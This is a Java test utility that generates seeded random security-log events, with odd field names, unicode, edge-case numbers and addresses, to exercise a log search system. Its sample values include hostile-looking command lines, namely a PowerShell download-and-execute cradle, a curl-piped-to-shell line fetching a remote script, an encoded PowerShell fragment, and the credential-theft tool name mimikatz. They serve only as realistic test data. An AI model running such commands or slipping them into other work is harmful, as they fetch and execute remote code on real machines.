package dev.ring3.search.testing;

import dev.ring3.collector.event.Event;
import dev.ring3.collector.event.EventType;
import dev.ring3.collector.event.Field;
import dev.ring3.collector.event.Field.Cardinality;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/** Events in which any field can have any value, few enough that queries meet them. */
public final class RandomEvents {
  private static final Instant START = Instant.parse("2024-05-01T00:00:00Z");
  private static final List<String> TEXTS =
      List.of(
          "C:\\Windows\\System32\\cmd.exe",
          "c:\\windows\\SYSTEM32\\CMD.EXE",
          "\"C:\\Program Files\\a b\\x.exe\" -enc SQBFAFgA /c *?",
          "powershell.exe -NoProfile IEX(New-Object Net.WebClient)",
          "/usr/bin/curl http://example.org/a.sh|sh",
          "ÄÖÜ straße İstanbul ΣΊΣΥΦΟΣ",
          "emoji 😀 and \u0000 control \t tab",
          "name=value=twice",
          "mimikatz",
          "MimiKatz.exe",
          "4624",
          "0x1F4",
          "-17",
          "10.1.2.3",
          "a",
          "*",
          "?",
          "\\",
          "\\\\server\\share\\file%3D.txt",
          "= leading equals",
          "svchost.exe -k netsvcs -p",
          "日本語のテキスト",
          "x".repeat(300));
  private static final List<String> ADDRESSES =
      List.of("10.1.2.3", "10.200.0.1", "192.168.0.7", "fe80::1", "2001:db8::5", "::1", "LOCAL");
  private static final List<String> SOURCE_NAMES =
      List.of(
          "winlog.event_data.LogonType",
          "winlog.event_data.logontype",
          "winlog.user_data.LogonType",
          "winlog.event_data.Threat Name",
          "winlog.event_data.a=b%",
          "etw.Flags",
          "odd..name");

  private final SplittableRandom random;

  /** The same seed gives the same events. */
  public RandomEvents(long seed) {
    random = new SplittableRandom(seed);
  }

  /** The next event. */
  public Event next() {
    EventType[] types = EventType.values();
    Event.Builder event = Event.of(types[random.nextInt(types.length)], time());
    for (Field field : Field.values()) {
      if (random.nextInt(4) == 0) {
        set(field, event);
      }
    }
    for (String name : SOURCE_NAMES) {
      if (random.nextInt(3) == 0) {
        event.source(name, random.nextInt(10) == 0 ? "" : text());
      }
    }
    return event.build();
  }

  /** An event that has every field of the table. */
  public Event full() {
    Event.Builder event = Event.of(EventType.PROCESS_START, time());
    for (Field field : Field.values()) {
      set(field, event);
    }
    SOURCE_NAMES.forEach(name -> event.source(name, text()));
    return event.build();
  }

  private void set(Field field, Event.Builder event) {
    switch (field.type()) {
      case LONG -> event.set(field, number());
      case DATE -> event.set(field, random.nextInt(10) == 0 ? farTime() : time());
      case BOOLEAN -> event.set(field, random.nextBoolean());
      case IP -> texts(field, ADDRESSES, event);
      case KEYWORD, TEXT, PROSE -> texts(field, TEXTS, event);
    }
  }

  private void texts(Field field, List<String> from, Event.Builder event) {
    if (field.cardinality() == Cardinality.ONE) {
      event.set(field, pick(from));
      return;
    }
    List<String> many = new ArrayList<>();
    for (int count = 1 + random.nextInt(4); count > 0; count--) {
      many.add(pick(from));
    }
    event.setAll(field, many);
  }

  /** A value longer than a Lucene term, with a needle somewhere in it. */
  public String longText() {
    String filler = "Write-Host 'padding' ; ";
    int before = random.nextInt(2_000);
    return filler.repeat(before) + "Invoke-Needle " + filler.repeat(2_000 - before);
  }

  private String text() {
    return pick(TEXTS);
  }

  private long number() {
    return switch (random.nextInt(5)) {
      case 0 -> Long.MIN_VALUE;
      case 1 -> Long.MAX_VALUE;
      case 2 -> 443;
      default -> random.nextLong(-20, 2_000);
    };
  }

  private Instant time() {
    return START.plusNanos(random.nextLong(4L * 24 * 3600 * 1_000_000_000L));
  }

  private Instant farTime() {
    return Instant.parse(random.nextBoolean() ? "1601-01-01T00:00:00Z" : "9999-12-31T23:59:59Z");
  }

  private String pick(List<String> from) {
    return from.get(random.nextInt(from.size()));
  }
}
